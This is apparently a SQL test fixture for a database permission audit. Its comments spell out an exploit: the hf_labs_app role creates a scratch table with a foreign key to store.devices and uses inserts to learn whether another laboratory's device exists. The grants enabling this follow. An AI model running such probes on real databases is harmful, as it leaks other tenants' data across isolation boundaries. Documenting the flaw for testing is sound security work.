-- With REFERENCES and a schema to create in, a table of one's own with a foreign key probes any
-- laboratory's devices.
-- about: devices, scratch
-- as: hf_labs_app
-- exploit: SET labs.lab_id = '1';
-- exploit: CREATE TABLE scratch.probe (l bigint, s text, FOREIGN KEY (l, s) REFERENCES store.devices);
-- exploit: INSERT INTO scratch.probe VALUES (2, 'S2'), (2, 'S2');
-- exploit: SELECT 'device is there: ' || count(*) FROM scratch.probe;
-- shows: device is there: 2
CREATE SCHEMA scratch;
GRANT USAGE, CREATE ON SCHEMA scratch TO hf_labs_app;
GRANT USAGE ON SCHEMA store TO hf_labs_app;
GRANT REFERENCES ON store.devices TO hf_labs_app;
